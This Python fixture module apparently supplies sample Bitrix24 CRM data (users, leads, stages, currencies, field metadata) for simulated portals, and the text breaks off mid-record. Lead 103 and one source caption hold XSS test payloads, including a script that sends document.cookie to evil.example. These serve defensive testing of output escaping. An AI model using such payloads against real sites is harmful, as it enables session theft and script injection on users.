"""Sample CRM data of the simulated portals (pure data, no state, no HTTP).

Owns what each portal "contains": users and their rights, leads, the company and
contact the rich lead points to, lead stages / sources / honorifics, currencies
and the ``crm.lead.fields`` metadata including ``UF_CRM_*`` custom fields.

Shapes follow real payloads: crm.lead.get (RD api-reference/crm/leads/crm-lead-get.md,
payloads/crm_lead_get_success_id123.docs.json), crm.lead.fields
(payloads/crm_lead_fields_with_uf.fast_bitrix24_real.json), enumeration ``items``
(payloads/crm_item_fields_uf_examples.docs.json), crm.status.list
(payloads/crm_status_list_*.json), crm.currency.list
(RD api-reference/crm/currency/crm-currency-list.md), user.get
(payloads/user_get_response.docs.json).  Every id/flag in ``result`` is a string,
as in real answers.

Phone numbers are from Ofcom's ranges reserved for drama (+44 20 7946 0xxx, +44 7700 900xxx,
+44 161 496 0xxx) and e-mails on reserved ``.example`` domains, so no demo or screenshot shows
a real person's contact (Bitrix24 Market: no real phone numbers or e-mails in demo data,
market/preparing-to-publish/publication-requirements.md).

Lead ids on portal "a" (the ones tests and demos rely on):
  101 rich lead: every field group filled, assigned to user 2
  102 minimal lead: most fields null/"" and no multifields, assigned to user 1, OPENED=Y
  103 hostile lead: markup / javascript: URLs in text, multifields and UF values
  104 private lead: assigned to user 1, OPENED=N -> user 2 gets "Access denied"
  105 failed lead: stage JUNK (STATUS_SEMANTIC_ID "F"), closed
  106 converted lead: stage CONVERTED (STATUS_SEMANTIC_ID "S")
  107 lead assigned to user 19, who user.get does not return (system / fired user)
Write rights of user 2 (sales rep; ``Portal.can_edit``): editable 101, 103, 105, 106 (assigned
to him); read-only 102 and 107 (OPENED=Y, assigned to others); hidden 104.
Portal "b": 201 (German-language portal, rich-ish), 202 (minimal, RUB).
"""

from __future__ import annotations

import copy
from typing import Any

# --- crm.lead.get: every system key in the documented order ---------------------------

LEAD_SYSTEM_KEYS = [
    "ID", "TITLE", "HONORIFIC", "NAME", "SECOND_NAME", "LAST_NAME", "COMPANY_TITLE",
    "COMPANY_ID", "CONTACT_ID", "IS_RETURN_CUSTOMER", "BIRTHDATE", "SOURCE_ID",
    "SOURCE_DESCRIPTION", "STATUS_ID", "STATUS_DESCRIPTION", "POST", "COMMENTS",
    "CURRENCY_ID", "OPPORTUNITY", "IS_MANUAL_OPPORTUNITY", "HAS_PHONE", "HAS_EMAIL",
    "HAS_IMOL", "ASSIGNED_BY_ID", "CREATED_BY_ID", "MODIFY_BY_ID", "DATE_CREATE",
    "DATE_MODIFY", "DATE_CLOSED", "STATUS_SEMANTIC_ID", "OPENED", "ORIGINATOR_ID",
    "ORIGIN_ID", "MOVED_BY_ID", "MOVED_TIME", "ADDRESS", "ADDRESS_2", "ADDRESS_CITY",
    "ADDRESS_POSTAL_CODE", "ADDRESS_REGION", "ADDRESS_PROVINCE", "ADDRESS_COUNTRY",
    "ADDRESS_COUNTRY_CODE", "ADDRESS_LOC_ADDR_ID", "UTM_SOURCE", "UTM_MEDIUM",
    "UTM_CAMPAIGN", "UTM_CONTENT", "UTM_TERM", "LAST_ACTIVITY_BY", "LAST_ACTIVITY_TIME",
]


def _blank_lead(lead_id: int, when: str, by: str = "1") -> dict:
    """A lead as crm.lead.get returns a nearly empty one (cf. the RD "ID 123" example)."""
    lead: dict[str, Any] = {k: None for k in LEAD_SYSTEM_KEYS}
    lead.update({
        "ID": str(lead_id), "TITLE": f"Lead #{lead_id}", "NAME": "",
        "IS_RETURN_CUSTOMER": "N", "BIRTHDATE": "", "STATUS_ID": "NEW",
        "CURRENCY_ID": "EUR", "OPPORTUNITY": "0.00", "IS_MANUAL_OPPORTUNITY": "N",
        "HAS_PHONE": "N", "HAS_EMAIL": "N", "HAS_IMOL": "N",
        "ASSIGNED_BY_ID": by, "CREATED_BY_ID": by, "MODIFY_BY_ID": by,
        "DATE_CREATE": when, "DATE_MODIFY": when, "DATE_CLOSED": "",
        "STATUS_SEMANTIC_ID": "P", "OPENED": "Y", "MOVED_BY_ID": by, "MOVED_TIME": when,
        "LAST_ACTIVITY_BY": by, "LAST_ACTIVITY_TIME": when,
    })
    return lead


def _mf(mf_id: int, type_id: str, value_type: str, value: str) -> dict:
    return {"ID": str(mf_id), "VALUE_TYPE": value_type, "VALUE": value, "TYPE_ID": type_id}


def _file(owner: int, field: str, file_id: int) -> dict:
    # Shape from RD tutorials/crm/how-to-add-crm-objects/how-to-add-lead-with-files.md
    base = "/bitrix/components/bitrix/crm.lead.show/show_file.php"
    return {
        "id": file_id,
        "showUrl": f"{base}?ownerId={owner}&fieldName={field}&dynamic=Y&fileId={file_id}",
        "downloadUrl": f"{base}?auth=&ownerId={owner}&fieldName={field}&dynamic=Y&fileId={file_id}",
    }


# --- crm.lead.fields --------------------------------------------------------------------

# (code, type, isRequired, isReadOnly, isMultiple, title_en, title_de, extra)
_SYSTEM_FIELDS: list[tuple] = [
    ("ID", "integer", False, True, False, "ID", "ID", {}),
    ("TITLE", "string", True, False, False, "Lead Title", "Lead-Name", {}),
    ("HONORIFIC", "crm_status", False, False, False, "Salutation", "Anrede", {"statusType": "HONORIFIC"}),
    ("NAME", "string", False, False, False, "First Name", "Vorname", {}),
    ("SECOND_NAME", "string", False, False, False, "Middle Name", "Zweiter Vorname", {}),
    ("LAST_NAME", "string", False, False, False, "Last Name", "Nachname", {}),
    ("BIRTHDATE", "date", False, False, False, "Birthdate", "Geburtsdatum", {}),
    ("COMPANY_TITLE", "string", False, False, False, "Company Name", "Unternehmensname", {}),
    ("SOURCE_ID", "crm_status", False, False, False, "Source", "Quelle", {"statusType": "SOURCE"}),
    ("SOURCE_DESCRIPTION", "string", False, False, False, "Source Description", "Quelle Details", {}),
    ("STATUS_ID", "crm_status", False, False, False, "Stage", "Phase", {"statusType": "STATUS"}),
    ("STATUS_DESCRIPTION", "string", False, False, False, "Stage Description", "Phase Details", {}),
    ("STATUS_SEMANTIC_ID", "string", False, True, False, "Status Semantic", "Status Semantik", {}),
    ("POST", "string", False, False, False, "Position", "Position", {}),
    ("ADDRESS", "string", False, False, False, "Address", "Adresse", {}),
    ("ADDRESS_2", "string", False, False, False, "Address (Line 2)", "Adresse (Zeile 2)", {}),
    ("ADDRESS_CITY", "string", False, False, False, "City", "Stadt", {}),
    ("ADDRESS_POSTAL_CODE", "string", False, False, False, "Postal Code", "PLZ", {}),
    ("ADDRESS_REGION", "string", False, False, False, "Region", "Region", {}),
    ("ADDRESS_PROVINCE", "string", False, False, False, "Province", "Bundesland", {}),
    ("ADDRESS_COUNTRY", "string", False, False, False, "Country", "Land", {}),
    ("ADDRESS_COUNTRY_CODE", "string", False, False, False, "Country Code", "Ländercode", {}),
    ("ADDRESS_LOC_ADDR_ID", "integer", False, False, False, "Location Address ID", "Standort-Adress-ID", {}),
    ("CURRENCY_ID", "crm_currency", False, False, False, "Currency", "Währung", {}),
    ("OPPORTUNITY", "double", False, False, False, "Amount", "Betrag", {}),
    ("IS_MANUAL_OPPORTUNITY", "char", False, False, False, "IS_MANUAL_OPPORTUNITY", "IS_MANUAL_OPPORTUNITY", {}),
    ("OPENED", "char", False, False, False, "Available to All", "Für alle verfügbar", {}),
    ("COMMENTS", "string", False, False, False, "Comments", "Kommentar", {}),
    ("HAS_PHONE", "char", False, True, False, "Phone Provided", "Telefon angegeben", {}),
    ("HAS_EMAIL", "char", False, True, False, "Email Provided", "E-Mail angegeben", {}),
    ("HAS_IMOL", "char", False, True, False, "Open Line Assigned", "Kommunikationskanal angegeben", {}),
    ("ASSIGNED_BY_ID", "user", False, False, False, "Responsible User", "Verantwortlich", {}),
    ("CREATED_BY_ID", "user", False, True, False, "Created By", "Erstellt von", {}),
    ("MODIFY_BY_ID", "user", False, True, False, "Modified By", "Geändert von", {}),
    ("MOVED_BY_ID", "user", False, True, False, "MOVED_BY_ID", "MOVED_BY_ID", {}),
    ("DATE_CREATE", "datetime", False, True, False, "Creation Date", "Erstellt am", {}),
    ("DATE_MODIFY", "datetime", False, True, False, "Modification Date", "Geändert am", {}),
    ("MOVED_TIME", "datetime", False, True, False, "MOVED_TIME", "MOVED_TIME", {}),
    ("COMPANY_ID", "crm_company", False, False, False, "Company", "Unternehmen", {"settings": {"parentEntityTypeId": 4}}),
    ("CONTACT_ID", "crm_contact", False, False, False, "Contact", "Kontakt", {"isDeprecated": True}),
    ("CONTACT_IDS", "crm_contact", False, False, True, "CONTACT_IDS", "CONTACT_IDS", {}),
    ("IS_RETURN_CUSTOMER", "char", False, True, False, "Returning Lead", "Wiederholter Lead", {}),
    ("DATE_CLOSED", "datetime", False, True, False, "Closing Date", "Abgeschlossen am", {}),
    ("ORIGINATOR_ID", "string", False, False, False, "External Source", "Externe Quelle", {}),
    ("ORIGIN_ID", "string", False, False, False, "Identifier in External Source", "ID in externer Quelle", {}),
    ("UTM_SOURCE", "string", False, False, False, "Advertising System", "Werbesystem", {}),
    ("UTM_MEDIUM", "string", False, False, False, "Traffic Type", "Traffic-Typ", {}),
    ("UTM_CAMPAIGN", "string", False, False, False, "Campaign Identifier", "Kampagne", {}),
    ("UTM_CONTENT", "string", False, False, False, "Campaign Content", "Kampagneninhalt", {}),
    ("UTM_TERM", "string", False, False, False, "Campaign Search Term", "Suchbegriff", {}),
    ("LAST_ACTIVITY_TIME", "datetime", False, True, False, "LAST_ACTIVITY_TIME", "LAST_ACTIVITY_TIME", {}),
    ("LAST_ACTIVITY_BY", "user", False, True, False, "LAST_ACTIVITY_BY", "LAST_ACTIVITY_BY", {}),
    ("PHONE", "crm_multifield", False, False, True, "Phone", "Telefon", {}),
    ("EMAIL", "crm_multifield", False, False, True, "E-mail", "E-Mail", {}),
    ("WEB", "crm_multifield", False, False, True, "Website", "Webseite", {}),
    ("IM", "crm_multifield", False, False, True, "Messenger", "Messenger", {}),
    ("LINK", "crm_multifield", False, False, True, "LINK", "LINK", {}),
]

_STRING_SETTINGS = {"SIZE": 20, "ROWS": 1, "REGEXP": "", "MIN_LENGTH": 0, "MAX_LENGTH": 0, "DEFAULT_VALUE": None}
_FILE_SETTINGS = {"SIZE": 20, "LIST_WIDTH": 0, "LIST_HEIGHT": 0, "MAX_SHOW_SIZE": 0,
                  "MAX_ALLOWED_SIZE": 0, "EXTENSIONS": [], "TARGET_BLANK": "Y"}

# UF fields of portal "a": (code, type, multiple, label, settings, items)
UF_A = [
    ("UF_CRM_1721812760630", "string", False, "Preferred contact time", _STRING_SETTINGS, None),
    ("UF_CRM_1721812814433", "enumeration", False, "Lead temperature",
     {"DISPLAY": "LIST", "LIST_HEIGHT": 1, "CAPTION_NO_VALUE": "", "SHOW_NO_VALUE": "Y"},
     [{"ID": "79", "VALUE": "Hot"}, {"ID": "80", "VALUE": "Warm"}, {"ID": "81", "VALUE": "Cold"}]),
    ("UF_CRM_1721812935209", "boolean", False, "Newsletter consent",
     {"DEFAULT_VALUE": 0, "DISPLAY": "CHECKBOX", "LABEL": ["", ""], "LABEL_CHECKBOX": {"en": "Newsletter consent"}}, None),
    ("UF_CRM_1721812853419", "date", False, "Next follow-up", {"DEFAULT_VALUE": {"TYPE": "NONE", "VALUE": ""}}, None),
    ("UF_CRM_1721812870001", "datetime", False, "Demo slot", {"DEFAULT_VALUE": {"TYPE": "NONE", "VALUE": ""}, "USE_SECOND": "Y"}, None),
    ("UF_CRM_1721812915476", "money", False, "Budget estimate", {"DEFAULT_VALUE": ""}, None),
    ("UF_CRM_1721812977311", "string", True, "Interests", _STRING_SETTINGS, None),
    ("UF_CRM_1721812898903", "file", False, "Signed NDA", _FILE_SETTINGS, None),
    ("UF_CRM_1721812999001", "file", True, "Attachments", _FILE_SETTINGS, None),
    ("UF_CRM_1721813011002", "crm", True, "Related contact / company",
     {"LEAD": "N", "CONTACT": "Y", "COMPANY": "Y", "DEAL": "N"}, None),
    ("UF_CRM_1721813022003", "url", False, "Briefing document",
     {"POPUP": "Y", "SIZE": 20, "MIN_LENGTH": 0, "MAX_LENGTH": 0, "DEFAULT_VALUE": None}, None),
    ("UF_CRM_1721813033004", "double", False, "Fleet size",
     {"PRECISION": 0, "SIZE": 20, "MIN_VALUE": 0, "MAX_VALUE": 0, "DEFAULT_VALUE": None}, None),
    # Required to enter stage PROCESSED (STAGE_REQUIRED_A); no sample lead has a value.
    ("UF_CRM_1721813055006", "string", False, "Decision maker", _STRING_SETTINGS, None),
]

# Portal "a": fields a lead must have before it may enter a stage (the portal's "required
# from this stage" setting; crm_writes.crm_lead_update refuses the move otherwise). Lead 101
# (IN_PROCESS, no "Decision maker") is the demo: moving it to PROCESSED is refused.
STAGE_REQUIRED_A = {"PROCESSED": ["UF_CRM_1721813055006"]}

# Portal "b" has a different (smaller) set: caches must be per portal.
UF_B = [
    ("UF_CRM_1594289616952", "string", False, "Metro station", _STRING_SETTINGS, None),
    ("UF_CRM_1594289659496", "money", False, "Unsere Schätzung", {"DEFAULT_VALUE": ""}, None),
]

# Empty value per UF type (what crm.lead.get shows for a lead without a value).  An
# empty *single* file field is omitted entirely; an empty multiple one is [] (RD
# how-to-add-lead-with-files.md).  _OMIT marks "key absent".
_OMIT = object()


def _empty_uf(uf_type: str, multiple: bool) -> Any:
    if multiple:
        return []
    if uf_type == "file":
        return _OMIT
    if uf_type == "boolean":
        return "0"
    if uf_type in ("enumeration", "double", "crm"):
        return None
    return ""


def lead_fields(ufs: list[tuple], lang: str) -> dict:
    out: dict[str, dict] = {}
    for code, ftype, req, ro, multi, en, de, extra in _SYSTEM_FIELDS:
        entry = {"type": ftype, "isRequired": req, "isReadOnly": ro, "isImmutable": False,
                 "isMultiple": multi, "isDynamic": False}
        if "statusType" in extra:
            entry["statusType"] = extra["statusType"]
        if extra.get("isDeprecated"):
            entry["isDeprecated"] = True
        entry["title"] = de if lang == "de" else en
        if "settings" in extra:
            entry["settings"] = copy.deepcopy(extra["settings"])
        out[code] = entry
    for code, ftype, multi, label, settings, items in ufs:
        entry = {"type": ftype, "isRequired": False, "isReadOnly": False, "isImmutable": False,
                 "isMultiple": multi, "isDynamic": True}
        if items is not None:
            entry["items"] = copy.deepcopy(items)
        # In crm.lead.fields the UF "title" is the field code; the caption is in
        # listLabel/formLabel/filterLabel (payloads/crm_lead_fields_with_uf.fast_bitrix24_real.json).
        entry.update({"title": code, "listLabel": label, "formLabel": label, "filterLabel": label,
                      "settings": copy.deepcopy(settings)})
        out[code] = entry
    return out


def _with_ufs(lead: dict, ufs: list[tuple], values: dict | None = None) -> dict:
    values = values or {}
    for code, ftype, multi, _label, _settings, _items in ufs:
        if code in values:
            lead[code] = values[code]
        else:
            empty = _empty_uf(ftype, multi)
            if empty is not _OMIT:
                lead[code] = empty
    return lead


# --- dictionaries ------------------------------------------------------------------------

def _status_items(entity: str, rows: list[tuple], start_id: int) -> list[dict]:
    """crm.status.list rows.  rows: (STATUS_ID, NAME, SORT, SYSTEM, COLOR, SEMANTICS, EXTRA_SEMANTICS)."""
    out = []
    for i, (sid, name, sort, system, color, sem, extra_sem) in enumerate(rows):
        item = {
            "ID": str(start_id + 2 * i), "ENTITY_ID": entity, "STATUS_ID": sid, "NAME": name,
            "NAME_INIT": name if system == "Y" else "", "SORT": str(sort), "SYSTEM": system,
            "CATEGORY_ID": None, "COLOR": color, "SEMANTICS": sem,
        }
        if entity == "STATUS":
            item["EXTRA"] = {"SEMANTICS": extra_sem, "COLOR": color}
        out.append(item)
    return out


def _statuses(lang: str) -> dict[str, list[dict]]:
    de = lang == "de"
    stages = [
        ("NEW", "Nicht bearbeitet" if de else "Unassigned", 10, "Y", "#39A8EF", None, "process"),
        ("IN_PROCESS", "In Bearbeitung" if de else "In progress", 20, "Y", "#2FC6F6", None, "process"),
        ("PROCESSED", "Bearbeitet" if de else "Processed", 30, "Y", "#55D0E0", None, "process"),
        ("UC_3XK9QF", "Warten auf Unterlagen" if de else "Waiting for documents", 40, "N", "#47E4C2", None, "process"),
        ("CONVERTED", "Konvertiert" if de else "Good lead", 50, "Y", "#7BD500", "S", "success"),
        ("JUNK", "Minderwertiger Lead" if de else "Junk lead", 60, "Y", "#FF5752", "F", "failure"),
    ]
    sources = [
        ("CALL", "Anruf" if de else "Call", 10, "Y", None, None, None),
        ("EMAIL", "E-Mail", 20, "Y", None, None, None),
        ("WEB", "Webseite" if de else "Website", 30, "Y", None, None, None),
        ("ADVERTISING", "Werbung" if de else "Advertising", 40, "Y", None, None, None),
        ("PARTNER", "Bestandskunde" if de else "Existing client", 50, "Y", None, None, None),
        ("RECOMMENDATION", "Empfehlung" if de else "By recommendation", 60, "Y", None, None, None),
        ("TRADE_SHOW", "Messe" if de else "Show/Exhibition", 70, "Y", None, None, None),
        ("WEBFORM", "CRM-Formular" if de else "CRM form", 80, "Y", None, None, None),
        ("CALLBACK", "Rückruf" if de else "Callback", 90, "Y", None, None, None),
        ("OTHER", "Andere" if de else "Other", 100, "Y", None, None, None),
    ]
    if not de:
        # A user-defined source whose caption is markup: the app must escape dictionary
        # captions too, not only lead fields.
        sources.append(("UC_HOSTILE", "<img src=x onerror=alert('source')>Partner site", 110, "N", None, None, None))
    honorifics = ([("HNR_DE_1", "Herr", 10, "Y", None, None, None),
                   ("HNR_DE_2", "Frau", 20, "Y", None, None, None),
                   ("HNR_DE_3", "Dr.", 30, "Y", None, None, None)] if de else
                  [("HNR_EN_1", "Mr.", 10, "Y", None, None, None),
                   ("HNR_EN_2", "Mrs.", 20, "Y", None, None, None),
                   ("HNR_EN_3", "Ms.", 30, "Y", None, None, None),
                   ("HNR_EN_4", "Dr.", 40, "Y", None, None, None)])
    return {
        "STATUS": _status_items("STATUS", stages, 1),
        "SOURCE": _status_items("SOURCE", sources, 101),
        "HONORIFIC": _status_items("HONORIFIC", honorifics, 201),
    }


def _currencies(lang: str) -> list[dict]:
    # Shape of RD crm-currency-list.md, including the real "&nbsp;" HTML entity in
    # THOUSANDS_SEP (an app that inserts it as text shows a literal "&nbsp;").
    de = lang == "de"
    return [
        {"CURRENCY": "USD", "AMOUNT_CNT": "1", "AMOUNT": "1.0000", "SORT": "100", "BASE": "Y",
         "FULL_NAME": "US-Dollar" if de else "US Dollar", "LID": lang, "FORMAT_STRING": "$#",
         "DEC_POINT": ".", "THOUSANDS_SEP": ",", "DECIMALS": "2", "DATE_UPDATE": "2024-01-29T12:28:40+02:00"},
        {"CURRENCY": "EUR", "AMOUNT_CNT": "1", "AMOUNT": "1.0850", "SORT": "200", "BASE": "N",
         "FULL_NAME": "Euro", "LID": lang, "FORMAT_STRING": "# €", "DEC_POINT": "," if de else ".",
         "THOUSANDS_SEP": "&nbsp;", "DECIMALS": "2", "DATE_UPDATE": "2024-03-21T15:19:50+02:00"},
        {"CURRENCY": "RUB", "AMOUNT_CNT": "100", "AMOUNT": "1.1000", "SORT": "300", "BASE": "N",
         "FULL_NAME": "Russischer Rubel" if de else "Russian Ruble", "LID": lang, "FORMAT_STRING": "# ₽",
         "DEC_POINT": ",", "THOUSANDS_SEP": "&nbsp;", "DECIMALS": "2", "DATE_UPDATE": "2024-03-21T15:19:50+02:00"},
    ]


# --- users ---------------------------------------------------------------------------------

def _user(uid: int, name: str, last: str, email: str, position: str, photo: bool,
          gender: str = "", registered: str = "2024-01-15T00:00:00+02:00") -> dict:
    u = {
        "ID": str(uid), "ACTIVE": True, "NAME": name, "LAST_NAME": last, "SECOND_NAME": "",
        "EMAIL": email, "LAST_LOGIN": "2024-07-25T13:06:54+02:00", "DATE_REGISTER": registered,
        "TIME_ZONE": "", "IS_ONLINE": "Y" if uid == 1 else "N", "PERSONAL_GENDER": gender,
        "PERSONAL_BIRTHDAY": "", "PERSONAL_MOBILE": "", "PERSONAL_CITY": "", "WORK_PHONE": "",
        "WORK_POSITION": position, "UF_EMPLOYMENT_DATE": "", "UF_DEPARTMENT": [1],
        "USER_TYPE": "employee",
    }
    if photo:
        # Replaced by an absolute URL on the portal's current host when served.
        u["PERSONAL_PHOTO"] = f"/upload/avatar/{uid}.svg"
    return u


# user.get fields visible with scope user_brief (RD api-reference/user/user-scope.md)
USER_BRIEF_FIELDS = {
    "ID", "XML_ID", "ACTIVE", "NAME", "LAST_NAME", "SECOND_NAME", "TITLE", "IS_ONLINE",
    "TIME_ZONE", "PERSONAL_PHOTO", "TIMESTAMP_X", "DATE_REGISTER", "PERSONAL_PROFESSION",
    "PERSONAL_GENDER", "PERSONAL_BIRTHDAY", "PERSONAL_CITY", "PERSONAL_STATE",
    "PERSONAL_COUNTRY", "WORK_POSITION", "WORK_CITY", "WORK_STATE", "WORK_COUNTRY",
    "LAST_ACTIVITY_DATE", "UF_EMPLOYMENT_DATE", "UF_TIMEMAN", "UF_SKILLS", "UF_INTERESTS",
    "UF_DEPARTMENT", "UF_PHONE_INNER", "USER_TYPE",
}


# --- portals -------------------------------------------------------------------------------

def _portal_a() -> dict:
    t = "2024-05-23T18:18:25+02:00"
    users = {
        1: _user(1, "Ada", "Keller", "ada.keller@devportal.example", "Head of Sales", True, "F"),
        2: _user(2, "Ben", "Ortiz", "ben.ortiz@devportal.example", "Sales Manager", True, "M"),
    }
    rights = {1: "admin", 2: "own_or_opened"}

    rich = _blank_lead(101, "2024-05-20T09:12:44+02:00", by="1")
    rich.update({
        "TITLE": "Website enquiry: fleet telematics for 40 vans",
        "HONORIFIC": "HNR_EN_2", "NAME": "Marta", "SECOND_NAME": "Louise", "LAST_NAME": "Hoffmann",
        "COMPANY_TITLE": "Nordwind Logistics GmbH", "COMPANY_ID": "7", "CONTACT_ID": "15",
        "IS_RETURN_CUSTOMER": "Y", "BIRTHDATE": "1986-03-14T00:00:00+01:00",
        "SOURCE_ID": "WEB", "SOURCE_DESCRIPTION": "Pricing page, form \"Request a demo\"",
        "STATUS_ID": "IN_PROCESS", "STATUS_DESCRIPTION": "Waiting for fleet size confirmation",
        "POST": "Head of Operations",
        "COMMENTS": ("[B]Call summary[/B]\n[LIST]\n[*]40 vans, 6 trailers\n[*]Wants live ETA for customers\n"
                     "[*]Budget approved for [I]Q3[/I]\n[/LIST]\nSee [URL=https://nordwind.example/rfp]the RFP[/URL]."),
        "CURRENCY_ID": "EUR", "OPPORTUNITY": "48500.00", "IS_MANUAL_OPPORTUNITY": "Y",
        "HAS_PHONE": "Y", "HAS_EMAIL": "Y", "HAS_IMOL": "Y",
        "ASSIGNED_BY_ID": "2", "CREATED_BY_ID": "1", "MODIFY_BY_ID": "2",
        "DATE_MODIFY": "2024-05-23T16:40:02+02:00", "OPENED": "Y",
        "ORIGINATOR_ID": None, "ORIGIN_ID": None,
        "MOVED_BY_ID": "2", "MOVED_TIME": "2024-05-21T11:00:00+02:00",
        "ADDRESS": "Am Sandtorkai 12", "ADDRESS_2": "Building B, 3rd floor", "ADDRESS_CITY": "Hamburg",
        "ADDRESS_POSTAL_CODE": "20457", "ADDRESS_REGION": "Hamburg-Mitte", "ADDRESS_PROVINCE": "Hamburg",
        "ADDRESS_COUNTRY": "Germany", "ADDRESS_COUNTRY_CODE": "DE", "ADDRESS_LOC_ADDR_ID": "3417",
        "UTM_SOURCE": "google", "UTM_MEDIUM": "cpc", "UTM_CAMPAIGN": "fleet_q2",
        "UTM_CONTENT": "ad_variant_b", "UTM_TERM": "van tracking",
        "LAST_ACTIVITY_BY": "2", "LAST_ACTIVITY_TIME": "2024-05-23T16:40:02+02:00",
        "PHONE": [_mf(11658, "PHONE", "WORK", "+44 20 7946 0123"),
                  _mf(11659, "PHONE", "MOBILE", "+44 7700 900123")],
        "EMAIL": [_mf(11661, "EMAIL", "WORK", "m.hoffmann@nordwind.example"),
                  _mf(11662, "EMAIL", "HOME", "marta.h@mail.example")],
        "WEB": [_mf(11663, "WEB", "WORK", "https://nordwind.example"),
                _mf(11664, "WEB", "OTHER", "nordwind.example/careers")],
        "IM": [_mf(11660, "IM", "OPENLINE", "imol|livechat|1|67|21"),
               _mf(11665, "IM", "TELEGRAM", "@marta_hoffmann_demo_example"),
               _mf(11666, "IM", "SKYPE", "live:demo.example.marta")],
    })
    _with_ufs(rich, UF_A, {
        "UF_CRM_1721812760630": "Weekdays after 14:00",
        "UF_CRM_1721812814433": "79",
        "UF_CRM_1721812935209": "1",
        "UF_CRM_1721812853419": "2024-06-14T00:00:00+02:00",
        "UF_CRM_1721812870001": "2024-06-18T10:30:00+02:00",
        "UF_CRM_1721812915476": "50000|USD",
        "UF_CRM_1721812977311": ["Telematics", "Fuel cards", "Route planning"],
        "UF_CRM_1721812898903": _file(101, "UF_CRM_1721812898903", 37375),
        "UF_CRM_1721812999001": [_file(101, "UF_CRM_1721812999001", 37377),
                                 _file(101, "UF_CRM_1721812999001", 37379)],
        "UF_CRM_1721813011002": ["C_15", "CO_7"],
        "UF_CRM_1721813022003": "https://docs.example/briefs/101",
        "UF_CRM_1721813033004": "40",
    })

    minimal = _with_ufs(_blank_lead(102, t, by="1"), UF_A)

    hostile = _blank_lead(103, "2024-05-22T08:00:00+02:00", by="2")
    hostile.update({
        "TITLE": "<script>alert('title')</script>Urgent: call back",
        "NAME": "<img src=x onerror=alert('name')>", "LAST_NAME": "\"><svg onload=alert(1)>",
        "COMPANY_TITLE": "</td></tr><script>alert('company')</script>",
        "SOURCE_ID": "UC_HOSTILE", "STATUS_ID": "NEW", "POST": "<b onmouseover=alert(1)>CEO</b>",
        "COMMENTS": ("<script>document.location='https://evil.example/?c='+document.cookie</script>\n"
                     "[URL=javascript:alert('bb')]Click me[/URL] [IMG]javascript:alert(2)[/IMG]\n"
                     "<a href=\"javascript:alert(3)\">link</a>"),
        "OPPORTUNITY": "1e9", "CURRENCY_ID": "<i>USD</i>",
        "HAS_PHONE": "Y", "HAS_EMAIL": "Y",
        "ASSIGNED_BY_ID": "2", "CREATED_BY_ID": "2", "MODIFY_BY_ID": "2",
        "ADDRESS_CITY": "<iframe src=javascript:alert(4)>",
        "UTM_SOURCE": "javascript:alert(5)",
        "PHONE": [_mf(11701, "PHONE", "WORK", "javascript:alert('tel')"),
                  _mf(11702, "PHONE", "<script>x</script>", "+1 555 0100")],
        "EMAIL": [_mf(11703, "EMAIL", "WORK", "\"><svg onload=alert(1)>@evil.example"),
                  _mf(11704, "EMAIL", "OTHER", "javascript:alert('mail')//@x.example")],
        "WEB": [_mf(11705, "WEB", "WORK", "javascript:alert(document.cookie)"),
                _mf(11706, "WEB", "OTHER", "data:text/html,<script>alert(6)</script>"),
                _mf(11707, "WEB", "HOME", "  JaVaScRiPt:alert(7)")],
        "IM": [_mf(11708, "IM", "OTHER", "<img src=x onerror=alert('im')>")],
    })
    _with_ufs(hostile, UF_A, {
        "UF_CRM_1721812760630": "<b onmouseover=alert('uf')>hover</b><script>alert('uf')</script>",
        "UF_CRM_1721812814433": "<script>alert('enum')</script>",
        "UF_CRM_1721812977311": ["<img src=x onerror=alert('multi')>", "ok"],
        "UF_CRM_1721813022003": "javascript:alert('url-uf')",
        "UF_CRM_1721812915476": "<svg onload=alert(8)>|USD",
    })

    private = _blank_lead(104, "2024-05-19T10:00:00+02:00", by="1")
    private.update({"TITLE": "Confidential: board member referral", "NAME": "Viktor",
                    "LAST_NAME": "Brandt", "OPENED": "N", "STATUS_ID": "PROCESSED",
                    "OPPORTUNITY": "250000.00", "CURRENCY_ID": "USD",
                    "HAS_PHONE": "Y", "PHONE": [_mf(11720, "PHONE", "MOBILE", "+1 202 555 0143")]})
    _with_ufs(private, UF_A)

    junk = _blank_lead(105, "2024-04-02T14:00:00+02:00", by="2")
    junk.update({"TITLE": "Cold call: office supplies", "NAME": "Paul", "LAST_NAME": "Novak",
                 "STATUS_ID": "JUNK", "STATUS_SEMANTIC_ID": "F", "SOURCE_ID": "CALL",
                 "STATUS_DESCRIPTION": "Not a decision maker", "OPPORTUNITY": "1200.00",
                 "CURRENCY_ID": "USD", "DATE_CLOSED": "2024-04-05T09:30:00+02:00",
                 "ASSIGNED_BY_ID": "2", "OPENED": "N"})
    _with_ufs(junk, UF_A, {"UF_CRM_1721812814433": "81"})

    won = _blank_lead(106, "2024-03-11T10:00:00+01:00", by="2")
    won.update({"TITLE": "Referral: cold chain monitoring", "NAME": "Jun", "LAST_NAME": "Tanaka",
                "STATUS_ID": "CONVERTED", "STATUS_SEMANTIC_ID": "S", "SOURCE_ID": "RECOMMENDATION",
                "OPPORTUNITY": "9990000.00", "CURRENCY_ID": "RUB", "IS_RETURN_CUSTOMER": "Y",
                "DATE_CLOSED": "2024-03-29T17:00:00+01:00", "ASSIGNED_BY_ID": "2",
                "HAS_EMAIL": "Y", "EMAIL": [_mf(11730, "EMAIL", "WORK", "jun.tanaka@example.jp")]})
    _with_ufs(won, UF_A, {"UF_CRM_1721812935209": "0"})

    orphan = _blank_lead(107, "2024-05-01T12:00:00+02:00", by="19")
    orphan.update({"TITLE": "Imported from legacy CRM", "NAME": "Ines", "LAST_NAME": "Duarte",
                   "STATUS_ID": "UC_3XK9QF", "SOURCE_ID": "OTHER", "ORIGINATOR_ID": "legacy-crm",
                   "ORIGIN_ID": "L-88213", "OPENED": "Y", "CURRENCY_ID": "USD", "OPPORTUNITY": "3100.50"})
    _with_ufs(orphan, UF_A)

    company = {
        "ID": "7", "COMPANY_TYPE": "CUSTOMER", "TITLE": "Nordwind Logistics GmbH", "LOGO": None,
        "LEAD_ID": None, "HAS_PHONE": "Y", "HAS_EMAIL": "N", "HAS_IMOL": "N",
        "ASSIGNED_BY_ID": "2", "CREATED_BY_ID": "1", "MODIFY_BY_ID": "1",
        "BANKING_DETAILS": None, "INDUSTRY": "DELIVERY", "REVENUE": "12000000", "CURRENCY_ID": "EUR",
        "EMPLOYEES": "EMPLOYEES_3", "COMMENTS": "", "DATE_CREATE": "2023-11-02T10:00:00+01:00",
        "DATE_MODIFY": "2024-05-20T09:12:44+02:00", "OPENED": "Y", "IS_MY_COMPANY": "N",
